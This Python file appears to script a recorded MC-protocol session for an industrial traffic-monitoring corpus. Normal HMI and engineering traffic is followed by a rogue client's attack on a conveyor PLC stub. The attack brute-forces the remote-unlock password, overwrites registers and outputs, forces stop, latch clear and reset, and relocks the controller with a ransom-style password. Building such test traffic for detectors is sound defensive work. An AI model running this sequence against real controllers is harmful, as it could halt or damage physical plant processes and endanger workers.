"""An HMI polls two controllers, an engineer identifies one and sets values; then a rogue host guesses its
password, overwrites it, and stops, clears and resets it."""

from collections.abc import Iterable

from plantwatch.corpus.record import Recording

RECORDING = Recording(
    "slmp/recorded-session",
    stacks=("pymcprotocol 0.3.0",),
    servers=("10.60.1.10", "10.60.1.11"),
    clients=("10.60.1.20", "10.60.1.40", "10.60.1.66"),
    listens=("tcp 5007",),
)


def server() -> None:
    """The conveyor and the robot, answered by a stub."""
    from _slmp import CONVEYOR, ROBOT, controllers

    controllers([CONVEYOR, ROBOT])


def signature(said: bytes) -> Iterable[bytes]:
    """3E frames by their length field."""
    from plantwatch.corpus.record.streams import cut

    return cut(said, lambda rest: 9 + int.from_bytes(rest[7:9], "little"))


def client() -> None:
    """Read, write, unlock, control."""
    from contextlib import suppress

    from _slmp import ATTACKER, CONVEYOR, ENGINEERING, HMI, ROBOT, connect
    from pymcprotocol.mcprotocolerror import MCProtocolError

    screens = [connect(HMI, controller) for controller in (CONVEYOR, ROBOT)]
    for _ in range(15):
        for screen in screens:
            screen.batchread_wordunits("D100", 10)
            screen.batchread_bitunits("X10", 8)

    engineer = connect(ENGINEERING, CONVEYOR)
    engineer.read_cputype()
    engineer.echo_test("PLANT")
    engineer.randomread(["D100", "D200"], ["D300"])
    engineer.batchwrite_wordunits("D100", [42, 43])
    engineer.batchwrite_bitunits("Y10", [1, 0, 1])
    engineer.batchread_wordunits("D100", 2)
    engineer.close()

    rogue = connect(ATTACKER, CONVEYOR)
    rogue.read_cputype()
    for guess in (*(f"{number:04}" for number in range(12)), "2026"):
        with suppress(MCProtocolError):
            rogue.remote_unlock(guess)
    for value in range(30):
        rogue.batchwrite_wordunits("D100", [1000 * value])
    rogue.batchwrite_bitunits("Y10", [1] * 16)
    rogue.randomwrite(["D100"], [0], ["D200"], [0])
    rogue.randomwrite_bitunits(["Y10", "Y20"], [1, 0])
    rogue.remote_pause(force_exec=True)
    rogue.remote_stop()
    rogue.remote_latchclear()
    rogue.remote_reset()
    rogue.remote_run(clear_mode=2, force_exec=True)
    rogue.remote_lock("ransom"[:4])
    rogue.close()
    for screen in screens:
        screen.batchread_wordunits("D100", 10)
        screen.close()
